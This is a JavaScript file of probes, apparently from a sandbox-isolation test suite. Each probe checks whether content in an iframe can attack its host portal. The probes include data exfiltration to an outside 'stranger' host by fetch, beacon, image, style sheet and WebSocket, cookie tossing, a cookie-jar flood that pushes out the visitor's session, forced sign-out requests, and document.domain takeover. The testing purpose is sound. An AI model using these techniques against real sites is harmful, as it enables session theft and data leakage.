// Each probe answers true when the attack succeeded. `outside` is what it aims at: {portal, sibling, stranger}.
"use strict";
const wait = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const tried = async (attack) => { try { return Boolean(await attack()); } catch { return false; } };
const loads = (make, ms = 800) => new Promise((resolve) => {
  const element = make();
  element.onload = () => resolve(true);
  element.onerror = () => resolve(false);
  document.body.append(element);
  setTimeout(() => resolve(false), ms);
});
// Every domain above this host, to the widest that a browser lets it have.
const parents = () => location.hostname.split(".").map((_, from, labels) => labels.slice(from).join(".")).slice(1);
const toss = (cookie) => { for (const domain of parents()) document.cookie = `${cookie}; Domain=${domain}; Path=/`; };
window.probes = {
  "read the portal's document": () => tried(() => parent.document.body.outerHTML),
  "read the portal's cookies": () => tried(() => parent.document.cookie !== undefined),
  "read the portal's address": () => tried(() => parent.location.href),
  "read the portal's storage": () => tried(() => { parent.localStorage.setItem("x", "1"); return true; }),
  "write into the portal's page": () => tried(() => { parent.document.title = "wolf"; return true; }),
  "run script given as text": () => tried(async () => { await wait(0); return new Function("return true")(); }),
  "run an inline script": () => tried(async () => {
    const script = document.createElement("script");
    script.textContent = "window.inlineRan = true";
    document.body.append(script);
    await wait(100);
    return window.inlineRan;
  }),
  "load a script from elsewhere": ({ stranger }) => loads(() => Object.assign(document.createElement("script"), { src: `${stranger}/script.js` })),
  "send data out by fetch": ({ stranger }) => tried(async () => { await fetch(`${stranger}/leak?by=fetch`, { mode: "no-cors" }); return true; }),
  "send data out by a picture": ({ stranger }) => loads(() => Object.assign(new Image(), { src: `${stranger}/leak.png` })),
  "send data out by a beacon": ({ stranger }) => tried(async () => { navigator.sendBeacon(`${stranger}/leak?by=beacon`, "x"); await wait(500); return false; }),
  "send data out by a style sheet": ({ stranger }) => loads(() => Object.assign(document.createElement("link"), { rel: "stylesheet", href: `${stranger}/leak.css` })),
  "send data out by a web socket": ({ stranger }) => new Promise((resolve) => {
    try {
      const socket = new WebSocket(stranger.replace("http", "ws") + "/socket");
      socket.onopen = () => resolve(true);
      socket.onerror = () => resolve(false);
    } catch { resolve(false); }
    setTimeout(() => resolve(false), 800);
  }),
  "read the portal's pages with the visitor's cookies": ({ portal }) => tried(async () => (await fetch(`${portal}/me`, { credentials: "include" })).ok),
  "register a service worker": () => tried(() => navigator.serviceWorker.register("/static/sw.js")),
  "start a worker from text": () => tried(() => new Promise((resolve) => {
    const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"])));
    worker.onmessage = () => resolve(true);
    worker.onerror = () => resolve(false);
    setTimeout(() => resolve(false), 1000);
  })),
  "change the portal's language by a cookie": () => tried(() => toss("locale=en")),
  "push the visitor's session out": () => tried(async () => {
    for (const priority of ["Medium", "High"]) for (let i = 0; i < 200; i += 1) toss(`${priority}${i}=1; Secure; Priority=${priority}`);
    // The browser stores them in its own time: what is tried next must not overtake the flood.
    for (let i = 0; i < 100 && !document.cookie.includes("High199=1"); i += 1) await new Promise((go) => setTimeout(go, 50));
  }),
  "sign the visitor out by a form": ({ portal }) => tried(async () => {
    const form = Object.assign(document.createElement("form"), { method: "post", action: `${portal}/sign-out` });
    document.body.append(form);
    setTimeout(() => form.submit(), 50);
  }),
  "sign the visitor out by a request": ({ portal }) => tried(() => fetch(`${portal}/sign-out`, { method: "POST", mode: "no-cors", credentials: "include" })),
  "sign the visitor out by a header": () => tried(async () => { await (await fetch("/clear")).text(); return false; }),
  "toss a cookie to a sibling": () => tried(async () => {
    toss("tossed=1");
    return (await (await fetch("/cookies")).text()).includes("tossed");
  }),
  "take the portal's domain": () => tried(() => {
    for (const domain of parents()) { try { document.domain = domain; } catch { /* not a parent's to give */ } }
    return parent.document.body.outerHTML;
  }),
  "freeze the portal": () => { window.busyUntil = Infinity; setTimeout(() => { const end = Date.now() + 700; while (Date.now() < end); window.busyUntil = Date.now(); }, 50); return wait(0); },
  "ask for the place": () => tried(() => new Promise((resolve) => { navigator.geolocation.getCurrentPosition(() => resolve(true), (error) => resolve(error.code !== 1 || !/policy/i.test(error.message))); setTimeout(() => resolve(false), 800); })),
  "use the camera": () => tried(async () => document.featurePolicy ? document.featurePolicy.allowsFeature("camera") : true),
  "use the visitor's passkeys": () => tried(async () => document.featurePolicy.allowsFeature("publickey-credentials-get")),
  "show a dialog over the portal": () => tried(async () => {
    const before = performance.now();
    const answer = confirm("wolf");
    return answer || performance.now() - before > 300;
  }),
  "go full screen": () => tried(async () => { await document.documentElement.requestFullscreen(); return true; }),
  "lead the tab away": ({ stranger }) => tried(() => { top.location = `${stranger}/away`; return false; }),
  "open a window": ({ stranger }) => tried(() => Boolean(window.open(`${stranger}/popup`))),
};
